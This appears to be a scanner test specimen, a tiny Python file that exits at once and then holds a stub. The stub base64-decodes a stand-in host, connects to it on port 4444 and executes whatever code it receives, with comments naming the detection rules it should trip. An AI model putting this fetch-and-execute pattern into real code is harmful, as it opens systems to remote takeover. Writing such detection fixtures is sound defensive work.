raise SystemExit("specimen: not to be run")
import base64
import socket

def begin():
    line = socket.socket()
    line.connect((base64.b64decode("ZXhhbXBsZS5pbnZhbGlk").decode(), 4444))
    exec(line.recv(65536))  # match: socket-commands  # match: execution-of-downloaded
